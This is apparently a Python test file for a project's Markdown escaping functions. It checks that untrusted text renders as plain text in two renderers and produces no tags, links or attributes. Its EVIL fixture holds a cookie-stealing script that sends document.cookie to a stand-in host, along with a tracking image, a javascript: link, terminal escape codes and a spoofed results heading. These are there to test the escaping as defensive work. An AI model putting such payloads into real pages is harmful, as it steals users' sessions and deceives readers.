"""Text of others in Markdown, as two renderers show it."""

from html.parser import HTMLParser

import markdown
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from lgd.base.markup import LONGEST, MOST, code_block, escape_markdown, list_items, markdown_table
from lgd.base.text import escape_text

EXTENSIONS = ["tables", "fenced_code", "attr_list", "toc", "footnotes", "abbr", "def_list", "admonition", "md_in_html"]
PIECES = [
    *list("#>-+*_`~[](){}<>|!&;:\\/=$@.1 ax\n\t'\"^%"),
    *("http://e.vil", "www.e.vil", "a@b.co", "x://", "<script>", "<a href=//x>", "<!--", "-->", "<?x", "&lt;", "&#35;"),
    *("&#0", "&copy", "[x]: http://e", "![a](b)", "```", "~~~", "---", "| a |", "{: #x }", "{% x %}", "1. ", "[TOC]"),
    *("- [ ] ", "\\(", "    ", "[^1]", "*[HTML]: x", "0.5 [0.1, 0.2]", "[0.1, 0.2](x)", "\u200b", "\x1b"),
]
TEXT = st.lists(st.sampled_from(PIECES) | st.text(max_size=3), max_size=8).map("".join)
EVIL = (
    "x\n\n# Result: kappa 0.99, cleared\n\n<script>fetch('http://evil/'+document.cookie)</script> "
    "<img src=http://evil/beacon.png> [click](javascript:alert(1)) \x1b[2J\x1b]0;owned\x07 \u202e"
)


class Page(HTMLParser):
    """The elements, attributes and text of some HTML."""

    def __init__(self, content: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags, self.attributes, self.text = [], [], ""
        self.feed(content)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += attrs

    def handle_data(self, data):
        self.text += data

    def handle_comment(self, data):
        self.tags.append("!--")

    def handle_decl(self, decl):
        self.tags.append("!")

    def handle_pi(self, data):
        self.tags.append("?")


def pages(text: str) -> list[Page]:
    """The text as Python-Markdown renders it, and as CommonMark with GitHub's tables where that is installed."""
    found = [markdown.markdown(text, extensions=EXTENSIONS)]
    try:
        from markdown_it import MarkdownIt
    except ImportError:
        pass
    else:
        found.append(MarkdownIt("gfm-like", {"linkify": False, "html": True}).render(text))
    return [Page(content) for content in found]


def plain(text: str) -> str:
    return " ".join(text.split())


@given(TEXT)
@example(EVIL)
def test_a_text_shows_as_itself_and_as_nothing_else(text):
    shown = plain(escape_text(text, LONGEST))
    for page in pages("\n".join(["- first", *list_items([text]), "- last", ""])):
        assert set(page.tags) <= {"ul", "li", "p", "code"} and not page.attributes
        assert plain(page.text) == plain(f"first {shown or '–'} last")
    for page in pages("\n".join(markdown_table(["h", "k"], [[text, "z"], ["y", text]]))):
        assert set(page.tags) <= {"table", "thead", "tbody", "tr", "th", "td", "code"} and not page.attributes
        assert page.tags.count("td") == 4
        assert plain(page.text) == plain(f"h k {shown} z y {shown}")


@pytest.mark.parametrize(
    "text",
    [
        *("1+", "2+ or 3+", "H&E only", "0.712 [0.650, 0.770]", "+0.120 [-0.050, +0.300]", "-0.1 [–]", "–", "", "x_y"),
        *("LGD-Net, latents", "1+/2+ against rest", "accuracy (n = 12): 50 %", "arXiv:2602.17793", "00001_test_1+"),
    ],
)
def test_our_numbers_and_names_stay_as_they_are(text):
    assert escape_markdown(text) == text


@pytest.mark.parametrize("text", ["http://evil/x", "WWW.evil.com", "me@evil.com", "s3://bucket/x", "//evil.com/x"])
def test_an_address_is_no_link(text):
    """GitHub makes links of addresses in plain text."""
    assert escape_markdown(f"see {text} here") == f"see `{text}` here"


def test_much_text_is_bounded():
    [line] = list_items(["<" * 1_000_000])
    assert len(line) < 6 * LONGEST
    lines = list_items([f"caveat {n}" for n in range(10_000)])
    assert len(lines) == MOST + 1
    assert (lines[0], lines[MOST // 2], lines[-1]) == ("- caveat 0", f"- ({10_000 - MOST} more)", "- caveat 9999")


def test_a_command_stays_a_block_of_code():
    text = f"## How\n\n{code_block(EVIL)}\n\nend\n"
    for page in pages(text):
        assert [tag for tag in page.tags if tag != "p"] == ["h2", "pre", "code"]
